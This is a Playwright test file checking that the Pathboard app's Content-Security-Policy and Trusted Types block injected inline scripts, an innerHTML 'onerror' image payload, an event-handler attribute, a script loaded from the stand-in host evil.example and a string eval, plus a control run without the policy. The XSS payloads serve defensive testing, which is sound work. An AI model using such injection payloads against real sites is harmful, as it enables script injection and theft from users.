// The renderer's Content-Security-Policy: strict on paper (no inline or eval scripts, no remote origins, Trusted Types
// required) and in Chromium (an injected inline script or inline event handler does not run, a raw string assigned to
// innerHTML throws, notes still render through the one allowed policy). A copy of the page served without the policy
// runs the same injections, which shows the checks can fail.
import { existsSync, readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import type { Page } from '@playwright/test';
import { CONTENT_SECURITY_POLICY, NOTES_POLICY } from '../../src/shared/contentSecurityPolicy';
import { test, expect, pickPathOnFirstRun } from '../support/harness';

const root = resolve(import.meta.dirname, '..', '..');
const builtHtml = resolve(root, 'out', 'renderer', 'index.html');

function cspOf(html: string): Map<string, string[]> {
  const meta = /<meta\s+http-equiv="Content-Security-Policy"\s+content="([^"]*)"/i.exec(html);
  if (!meta) throw new Error('index.html has no Content-Security-Policy meta tag');
  const directives = new Map<string, string[]>();
  for (const part of meta[1]!.split(';')) {
    const [name, ...values] = part.trim().split(/\s+/);
    if (name) directives.set(name.toLowerCase(), values);
  }
  return directives;
}

/** Sources that let anything but the app's own files in: inline, eval, wildcards, schemes and hosts. */
function remoteOrUnsafe(values: string[]): string[] {
  const allowed = new Set(["'self'", "'none'", 'data:']);
  return values.filter((v) => !allowed.has(v));
}

test.describe('Content-Security-Policy', () => {
  test.beforeAll(() => {
    if (!existsSync(builtHtml)) throw new Error(`${builtHtml} is missing: run "npm run build" first (npm test does).`);
  });

  test('allows scripts only from the app itself, requires Trusted Types and names no remote origin anywhere', () => {
    const html = readFileSync(builtHtml, 'utf8');
    expect(html).toContain(`content="${CONTENT_SECURITY_POLICY}"`);
    const csp = cspOf(html);
    expect(csp.get('default-src')).toEqual(["'none'"]);
    expect(csp.get('script-src')).toEqual(["'self'"]);
    expect(csp.get('object-src')).toEqual(["'none'"]);
    expect(csp.get('base-uri')).toEqual(["'none'"]);
    expect(csp.get('require-trusted-types-for')).toEqual(["'script'"]);
    // Only Pathboard's own policy: no 'allow-duplicates', no wildcard, no library's default policy (dompurify).
    expect(csp.get('trusted-types')).toEqual([NOTES_POLICY]);
    for (const [directive, values] of csp) {
      expect(values.join(' '), directive).not.toMatch(/unsafe-inline|unsafe-eval|unsafe-hashes|wasm-unsafe-eval|allow-duplicates|\*|https?:|wss?:|blob:|filesystem:/);
      if (directive === 'trusted-types' || directive === 'require-trusted-types-for') continue;
      // data: is tolerated for images only (inline SVG icons); nowhere may it reach scripts, frames or connections.
      const extra = remoteOrUnsafe(values);
      expect(extra.filter((v) => !(v === 'data:' && directive === 'img-src')), directive).toEqual([]);
    }
  });

  // Runs in the page as source text: this project's node-side type check has no DOM types. page.evaluate itself runs
  // with DevTools' exemption from the policy, so eval is tried through a string timer, which the page compiles later
  // under its own policy.
  // Each injection is tried on its own: under Trusted Types a DOM sink throws a TypeError, which is recorded as the
  // outcome of that step rather than ending the script.
  const INJECT = `(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
    const refused = {};
    const attempt = (name, step) => {
      try {
        step();
      } catch (error) {
        refused[name] = error.name;
      }
    };
    const addScript = (fill) => {
      const script = document.createElement('script');
      fill(script);
      document.body.append(script);
    };
    attempt('script', () => addScript((script) => (script.textContent = 'window.__pwnedScript = 1')));
    attempt('rawHtml', () => {
      const holder = document.createElement('div');
      holder.innerHTML = '<img src="/definitely-missing.png" onerror="window.__pwnedHandler = 1">';
      document.body.append(holder);
    });
    // An inline handler set as an attribute: under Trusted Types an event handler attribute is a script sink too.
    attempt('attribute', () => {
      const img = document.createElement('img');
      img.setAttribute('onerror', 'window.__pwnedAttribute = 1');
      img.src = '/definitely-missing.png';
      document.body.append(img);
    });
    attempt('remote', () => addScript((script) => (script.src = 'https://evil.example/x.js')));
    attempt('eval', () => setTimeout('window.__pwnedEval = 1', 0));
    await new Promise((done) => setTimeout(done, 500));
    return {
      script: window.__pwnedScript ?? 'blocked',
      handler: window.__pwnedHandler ?? 'blocked',
      attribute: window.__pwnedAttribute ?? 'blocked',
      eval: window.__pwnedEval ?? 'blocked',
      refused,
      violations: [...new Set(violations)].sort(),
    };
  })()`;

  const inject = (page: Page) => page.evaluate(INJECT) as Promise<Record<string, unknown>>;

  test('blocks an injected inline script, an inline event handler, eval and a remote script in Chromium', async ({ app }) => {
    const { page } = app;
    // Nothing may leave the machine even if the policy failed: a remote request is caught here and counted.
    const remoteRequests: string[] = [];
    await page.route('https://evil.example/**', (route) => {
      remoteRequests.push(route.request().url());
      return route.abort();
    });
    await expect(page.getByRole('heading', { name: 'Welcome to Pathboard' })).toBeVisible();
    const outcome = await inject(page);
    expect(outcome).toMatchObject({ script: 'blocked', handler: 'blocked', attribute: 'blocked', eval: 'blocked' });
    // Trusted Types: a raw string reaching innerHTML, a script's text, a handler attribute, a script URL or a string
    // timer throws before the rest of the policy is even asked.
    expect(outcome['refused']).toEqual({ script: 'TypeError', rawHtml: 'TypeError', attribute: 'TypeError', remote: 'TypeError', eval: 'TypeError' });
    expect(outcome['violations']).toEqual(['require-trusted-types-for']);
    expect(remoteRequests).toEqual([]);
    // The app itself still works under the policy.
    await expect(page.getByRole('button', { name: 'I already know my path' })).toBeVisible();
  });

  test('control: the same injections do run when the page is served without its policy', async ({ app }) => {
    const { page } = app;
    await page.route('https://evil.example/**', (route) => route.abort());
    await page.route(/^http:\/\/127\.0\.0\.1:\d+\//, async (route) => {
      const response = await route.fetch();
      const type = response.headers()['content-type'] ?? '';
      if (!type.includes('text/html')) return route.fulfill({ response });
      const body = (await response.text()).replace(/<meta\s+http-equiv="Content-Security-Policy"[^>]*>/i, '');
      return route.fulfill({ response, body });
    });
    await page.reload();
    await expect(page.getByRole('heading', { name: 'Welcome to Pathboard' })).toBeVisible();
    const outcome = await inject(page);
    expect(outcome).toMatchObject({ script: 1, handler: 1, attribute: 1, eval: 1, refused: {} });
  });

  test('renders notes through the notes policy, with no Trusted Types violation on the way', async ({ app }) => {
    const { page } = app;
    await page.addInitScript({
      content: `window.__violations = [];
        document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(e.violatedDirective + ' ' + e.sample));`,
    });
    await page.reload();
    await pickPathOnFirstRun(page, 'MLOps Engineer');
    await page.locator('li[data-milestone-id="docker"]').focus();
    await page.keyboard.press('Enter');
    const panel = page.getByRole('dialog', { name: /^Details: / });
    await panel.getByRole('textbox', { name: 'Notes' }).fill('Use **multi-stage** builds <img src=x onerror=alert(1)> [docs](https://docs.docker.com)');
    await panel.getByRole('button', { name: 'Preview' }).click();
    const notes = panel.getByLabel(/Notes on/);
    await expect(notes.locator('strong')).toHaveText('multi-stage');
    await expect(notes.getByRole('link', { name: 'docs' })).toHaveAttribute('href', 'https://docs.docker.com');
    await expect(notes.locator('img')).toHaveCount(0);
    // The policy exists and is the page's only one: a second policy of any name is refused.
    const second = await page.evaluate(() => {
      try {
        (globalThis as unknown as { trustedTypes: { createPolicy: (n: string, o: object) => unknown } }).trustedTypes.createPolicy('dompurify', {});
        return 'created';
      } catch (error) {
        return (error as Error).name;
      }
    });
    expect(second).toBe('TypeError');
    const violations = await page.evaluate(() => (globalThis as unknown as { __violations: string[] }).__violations);
    expect(violations).toEqual(['trusted-types dompurify']);
  });
});
